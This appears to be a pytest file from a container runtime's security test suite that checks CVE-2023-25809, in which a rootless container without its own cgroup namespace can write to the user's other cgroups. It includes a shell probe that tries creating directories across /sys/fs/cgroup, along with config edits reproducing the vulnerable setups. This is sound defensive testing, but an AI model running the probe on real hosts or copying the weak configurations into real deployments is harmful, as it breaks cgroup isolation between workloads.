# SPDX-License-Identifier: Apache-2.0
"""Control groups of others that a container could write to."""

from __future__ import annotations

from pathlib import Path

import pytest
from attacks import PYRUNC, Attack, peer
from ordinary import User
from support import Host, make_rootfs

SPEC = """$P spec --rootless; /usr/bin/python3 -I - <<'END'
import json
c = json.load(open("config.json"))
c["process"].update(terminal=False, args=["sh", "/attack"])
c["root"]["readonly"] = False
{}
json.dump(c, open("config.json", "w"))
END
"""
#: Which directories below /sys/fs/cgroup take a cgroup of ours; how many there are to be seen.
ATTACK = """
seen=0
for directory in $(find "${1:-/sys/fs/cgroup}" -type d); do
    seen=$((seen + 1))
    mkdir "$directory/attack" 2>/dev/null && echo "made in $directory" && rmdir "$directory/attack"
done
echo "seen: $((seen > 0))"
"""
#: Where the container has no cgroup namespace of its own.
SHARED = 'c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "cgroup"]'
#: What engines write for an ordinary user's: all of the host's /sys, the top of it read-only.
SYS = '''
c["mounts"] = [m for m in c["mounts"] if not m["destination"].startswith("/sys")]
c["mounts"].append({"destination": "/sys", "type": "none", "source": "/sys",
                    "options": ["rbind", "nosuid", "noexec", "nodev", "ro"]})
'''
CGROUP = '''
c["mounts"].append({"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup",
                    "options": ["nosuid", "noexec", "nodev", "relatime", "ro"]})
'''
CASES = {"spec --rootless": "", "a bind of /sys, cgroups on it": SYS + CGROUP}


@pytest.mark.attack("CVE-2023-25809", "an ordinary user's container without a cgroup namespace writes to the user's "
                                      "other cgroups")
@pytest.mark.parametrize("case", CASES)
def test_cve_2023_25809_cgroups_of_the_user_are_to_be_read(host: Host, attack: Attack, tmp_path: Path,
                                                           case: str) -> None:
    """With a delegated sub-tree the user may write there, and so may root in its user namespace where it sees that."""
    home = tmp_path / "home"
    make_rootfs(home / "rootfs")
    (home / "rootfs/attack").write_text(ATTACK)
    user = User(home, cgroups="delegated")
    result = user.run(SPEC.format(SHARED + CASES[case]) + "$P run web")
    assert result.code == 0 and result.lines[-1] == "seen: 1", result
    attack.on(PYRUNC, any(line.startswith("made in") for line in result.lines))
    beside = user.run("runc --root $XDG_RUNTIME_DIR/runc run web")
    assert beside.code == 0 and beside.lines[-1] == "seen: 1", beside
    attack.on(peer(), any(line.startswith("made in") for line in beside.lines))
    # As careless as the first victim: a read-only bind is so at its top alone.
    result = user.run("mkdir sys; unshare --user --map-root-user --mount sh -c 'mount --rbind /sys sys; "
                      "mount -o remount,bind,ro sys; sh rootfs/attack sys/fs/cgroup'")
    assert result.lines[-1] == "seen: 1", result
    attack.on("a recursive bind of /sys that is read-only", any(line.startswith("made in") for line in result.lines))
